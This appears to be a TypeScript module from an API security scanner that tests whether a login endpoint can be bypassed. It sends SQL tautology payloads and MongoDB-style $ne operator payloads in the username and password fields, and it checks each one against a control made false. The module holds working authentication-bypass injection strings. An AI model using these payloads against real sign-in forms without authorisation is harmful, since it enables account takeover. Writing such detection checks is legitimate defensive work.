import type { Attack, Case, Untested } from '../../attack.ts'
import type { Answer } from '../../engine/exchange.ts'
import type { LoginRecipe, Plan } from '../../plan/plan.ts'
import { at, leavesOf, withAt } from '../../pointer.ts'
import type { Probe } from '../../probe.ts'
import { succeeded } from '../../success.ts'
import { fail, NotTested, pass } from '../../verdict.ts'
import { settled } from '../settled.ts'

interface Attempt {
  readonly how: string
  /** Signs in where the database takes the text for its own. */
  readonly open: Form
  /** The same, made false: where this signs in too, anything does. */
  readonly shut: Form
}

interface Form {
  readonly username: unknown
  readonly password: unknown
}

export const loginInjection: Attack = {
  id: 'login-injection',
  number: 113,
  risk: 'API8',
  severity: 'critical',
  cwe: 89,
  title: 'Whoever writes SQL or an operator into the sign-in is let in',
  references: ['OWASP API8:2023', 'OWASP WSTG-INPV-05', 'ASVS 5.0 1.2.4'],
  maxRequests: 14,
  oracle:
    'A condition that is always true, or the operator $ne, signs somebody in, while the same condition made false, or an unknown account, is refused.',
  fix: 'Bind values as parameters, and take user name and password as texts only.',
  phase: 'exhausting',
  cases,
  async run({ owner }: Case, probe) {
    const { source, account } = probe.identity(owner).plan
    if (source.kind !== 'login' || account === null) return pass()
    const { login } = source
    const leaves = [...leavesOf(login.body)]
    const username = leaves.find(({ value }) => value === account.username)?.at
    const password = leaves.find(({ value }) => value === account.password)?.at
    if (username === undefined || password === undefined || /^https?:/.test(login.url))
      throw new NotTested(`the sign-in of ${owner ?? ''} has no place for a user name and a password below the target`)
    const body = (form: Form) => withAt(withAt(login.body, username, form.username), password, form.password)
    const ask = (form: Form) => send(probe, login, body(form))
    const answers: Answer[] = []
    for (const { how, open, shut } of attempts(probe.nonce(), account.username)) {
      const opened = await ask(open)
      answers.push(opened)
      if (!signsIn(opened, login)) continue
      const refused = await ask(shut)
      if (!signsIn(refused, login)) return fail(`${how} signs in; made false it is refused`, refused, opened)
    }
    return pass('none of it signs in', ...answers)
  },
}

function* cases(plan: Plan): Generator<Case | Untested> {
  const login = plan.identities.find(({ source, account }) => source.kind === 'login' && account !== null)
  if (login) yield { operation: null, owner: login.name }
}

function attempts(nonce: string, username: string): readonly Attempt[] {
  const address = username.includes('@') ? `${nonce}@example.com` : nonce
  const wrong = `${nonce}-Aa1`
  const name = (text: string): Form => ({ username: text, password: wrong })
  return [
    {
      how: 'a user name with a condition that is true and a comment',
      open: name(`${address}' OR '7391'='7391' -- `),
      shut: name(`${address}' OR '7391'='7392' -- `),
    },
    {
      how: 'a password with a condition that is true',
      open: { username: address, password: `${wrong}' OR '7391'='7391` },
      shut: { username: address, password: `${wrong}' OR '7391'='7392` },
    },
    {
      how: 'the operator $ne in place of user name and password',
      open: { username: { $ne: nonce }, password: { $ne: nonce } },
      shut: { username: { $in: [nonce] }, password: { $ne: nonce } },
    },
    {
      how: 'the operator $ne in place of the password',
      open: { username, password: { $ne: nonce } },
      shut: { username, password: { $in: [nonce] } },
    },
  ]
}

const send = (probe: Probe, { url, method, headers, mediaType }: LoginRecipe, body: unknown): Promise<Answer> =>
  settled(probe, { method, path: url, query: [], headers: Object.entries(headers), body, mediaType }, probe.nobody)

function signsIn(answer: Answer, { token }: LoginRecipe): boolean {
  if (token.from === 'body') return succeeded(answer) && typeof at(answer.json, token.name) === 'string'
  if (answer.status >= 400) return false
  if (token.from === 'header') return answer.headers[token.name.toLowerCase()] !== undefined
  const lines = (answer.headers['set-cookie'] ?? '').split('\n')
  // A cookie that is taken away is set too.
  return lines.some((line) => line.startsWith(`${token.name}=`) && (line.split(/[=;]/)[1] ?? '').length >= 8)
}
